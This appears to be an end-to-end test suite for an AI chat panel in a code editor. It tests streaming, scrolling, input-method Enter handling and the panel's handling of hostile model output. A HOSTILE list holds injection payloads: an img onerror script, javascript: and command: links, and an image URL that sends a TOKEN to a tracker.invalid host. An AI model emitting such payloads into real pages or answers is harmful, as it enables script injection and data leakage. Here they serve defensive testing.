import assert from 'node:assert/strict';
import { message, say, text, type Step } from '../../harness/model/script';
import { pressComposedEnter } from '../../harness/panelSandbox/composedEnter';
import { gate } from '../../harness/product/dialogue';
import { eventually } from '../../harness/panelSandbox/eventually';
import type { Scene } from '../../harness/product/scene';
import { runCommand } from '../../harness/workbench';
import { begin } from './begin';

const DELTAS = 5000;
/** Words of one paragraph. */
const PARAGRAPH = 50;
const STRESS = 'count to five thousand';
const SCROLLED = 'count while I read';

function word(number: number): string {
  const end = number % PARAGRAPH === 0 ? '\n\n' : ' ';
  return `wörd${number}${end}`;
}

function words(from: number, to: number): Step[] {
  return Array.from({ length: to - from }, (_, index) => text(word(from + 1 + index)));
}

export function stress(scene: Scene): void {
  scene('no delta is lost or doubled while the view is hidden and made anew', async (product) => {
    const { page, dialogue, panel } = product;
    const [hide, show, remake] = [gate(), gate(), gate()];
    dialogue.on(
      STRESS,
      message([
        ...words(0, 2000),
        hide.step,
        ...words(2000, 4000),
        show.step,
        ...words(4000, 4500),
        remake.step,
        ...words(4500, DELTAS),
      ]),
    );
    await begin(product);
    const number = await panel.articles('Claude').count();
    await panel.send(STRESS);
    const answer = panel.articles('Claude').nth(number);
    await answer.getByText('wörd2000').waitFor();
    await product.hide();
    hide.open();
    await show.reached;
    await product.open();
    await answer.getByText('wörd4000').waitFor();
    show.open();
    await remake.reached;
    await answer.getByText('wörd4500').waitFor();
    const old = await panel.main.elementHandle();
    await runCommand(page, 'Developer: Reload Webviews');
    // The page of before is gone with its frame, which is an error for some and hidden for others.
    await old.waitForElementState('hidden').catch(() => undefined);
    await answer.getByText('wörd4500').waitFor();
    remake.open();
    await panel.waitForAnswer(number);
    await answer.getByText(`wörd${DELTAS}`).waitFor();
    const all = Array.from({ length: DELTAS }, (_, index) => word(index + 1)).join('');
    const expected = all
      .trim()
      .split('\n\n')
      .map((each) => each.trim());
    assert.deepEqual(await answer.locator('p').allTextContents(), expected);
  });

  scene('one pixel up stops following while an answer streams', async (product) => {
    const { dialogue, panel, frame } = product;
    const more = gate();
    dialogue.on(SCROLLED, message([...words(0, 1000), more.step, ...words(1000, 2000)]));
    await begin(product);
    const number = await panel.articles('Claude').count();
    await panel.send(SCROLLED);
    const answer = panel.articles('Claude').nth(number);
    await answer.getByText('wörd1000').waitFor();
    const log = frame.getByRole('log', { name: 'Conversation', exact: true });
    const toEnd = () => log.evaluate((box) => box.scrollHeight - box.scrollTop - box.clientHeight);
    await eventually(async () => (await toEnd()) < 2);
    const top = await log.evaluate(async (box) => {
      box.scrollTop -= 1;
      // The browser tells of it with the next frame.
      for (let count = 0; count < 2; count += 1) await new Promise(requestAnimationFrame);
      return box.scrollTop;
    });
    more.open();
    await panel.waitForAnswer(number);
    assert.ok(Math.abs((await log.evaluate((box) => box.scrollTop)) - top) < 2, 'it stayed');
    assert.ok((await toEnd()) > 200, 'more had come below');
    await frame.getByRole('button', { name: 'Jump to latest', exact: true }).click();
    await eventually(async () => (await toEnd()) < 2);
  });

  scene('an Enter of an input method sends nothing, a plain one once', async (product) => {
    const { dialogue, panel } = product;
    dialogue.on('にほん', say('はい'));
    await begin(product);
    const [own, answers] = [panel.articles('You'), panel.articles('Claude')];
    const [before, number] = [await own.count(), await answers.count()];
    await panel.message.fill('にほん');
    await pressComposedEnter(panel.message);
    assert.equal(await panel.message.inputValue(), 'にほん');
    await panel.message.press('Enter');
    await panel.waitForAnswer(number);
    assert.equal(product.requestsFor('にほん').length, 1, 'it was sent once');
    assert.equal((await own.count()) - before, 1);
  });
}

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '![p](https://tracker.invalid/?q=TOKEN)',
  '[go](command:workbench.action.terminal.new)',
  '[x](javascript:alert(1))',
  '[web](https://tracker.invalid/page)',
  `| ${'a | '.repeat(2000)}\n| ${'- | '.repeat(2000)}\n| ${'b | '.repeat(2000)}`,
  '```ts\nconst unclosed = "<script>alert(2)</script>";',
];
const INJECT = 'say something nasty';

export function hostileText(scene: Scene): void {
  scene(
    'hostile text of the model runs nothing, loads nothing and opens nothing',
    async (product) => {
      const { page, dialogue, panel, log } = product;
      dialogue.on(INJECT, say(HOSTILE.join('\n\n')));
      const before = log.requests.length;
      const pages = page.context().pages().length;
      const number = await panel.articles('Claude').count();
      await panel.send(INJECT);
      const answer = await panel.waitForAnswer(number);
      await answer.getByText('const unclosed').waitFor();
      assert.equal(await answer.locator('img, script, iframe, style, svg, form').count(), 0);
      await answer.getByText('<img src=x onerror=alert(1)>').waitFor();
      const schemes = await answer
        .locator('a[href]')
        .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
      for (const href of schemes) assert.doesNotMatch(href, /^\s*(command|javascript|data):/i);
      const fits = await panel.main.evaluate((main) => main.scrollWidth <= main.clientWidth);
      assert.equal(fits, true, 'the wide table stays in its own box');
      assert.deepEqual(
        log.requests.slice(before).filter((url) => url.includes('tracker')),
        [],
      );
      assert.deepEqual(log.dialogs, []);
      assert.equal(page.context().pages().length, pages);
      assert.equal(await page.locator('.terminal').count(), 0);
    },
  );

  scene('a link to the web is opened only after a question', async (product) => {
    const { page, panel, log } = product;
    const pages = page.context().pages().length;
    await panel.articles('Claude').last().getByRole('link', { name: 'web' }).click();
    const question = page.locator('.monaco-dialog-box');
    await question.getByText('https://tracker.invalid/page').waitFor();
    await question.getByRole('button', { name: 'Cancel' }).click();
    await question.waitFor({ state: 'detached' });
    assert.equal(page.context().pages().length, pages);
    assert.deepEqual(
      log.requests.filter((url) => url.includes('tracker.invalid')),
      [],
    );
  });
}

export function policy(scene: Scene): void {
  scene('the content policy of the panel was never broken, and is in force', async (product) => {
    const { panel, log } = product;
    assert.deepEqual(log.refusals, []);
    await panel.main.evaluate((main) => {
      const picture = document.createElement('img');
      picture.src = 'https://tracker.invalid/picture';
      const script = document.createElement('script');
      script.textContent = 'document.body.dataset.broken = "yes"';
      main.append(picture, script);
    });
    await eventually(() => log.refusals.length >= 2);
    assert.equal(await panel.main.evaluate(() => document.body.dataset.broken), undefined);
  });
}
